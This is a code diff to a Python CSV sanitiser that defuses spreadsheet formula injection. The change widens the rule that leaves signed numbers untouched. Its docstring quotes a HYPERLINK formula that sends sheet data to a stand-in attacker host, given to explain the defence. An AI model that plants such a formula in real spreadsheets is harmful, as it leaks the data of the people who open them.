@@ -5,7 +5,8 @@ Ministry staff open ``tables/*.csv`` in Excel, which runs a cell beginning with 
 ``=HYPERLINK("http://evil.example/?d="&A1,"click")`` would send the sheet's data away. As OWASP
 advises, such a text cell gets a leading apostrophe, which spreadsheets show as text and do not
 print. Numbers are never changed: number columns are left alone, and a text cell that is a
-plain negative number (``-0.3``) stays as it is.
+signed number as the reports write it (``-0.3``, ``+4,7``, ``-1 234``, ``+4,7 %``) stays as it
+is: a spreadsheet reads it as that number, and nothing in it can call a function or a program.
 """
 
 from __future__ import annotations
@@ -15,7 +16,9 @@ import re
 import pandas as pd
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-PLAIN_NUMBER = re.compile(r"-\d+(\.\d+)?")
+#: A signed number in any of the reports' formats: digits, group and decimal separators
+#: (space, no-break spaces, comma, point), an optional percent sign.
+PLAIN_NUMBER = re.compile(r"[+-]\d[\d \u00a0\u202f,.]*(\s?%)?")
 
 
 def inert_cell(value):
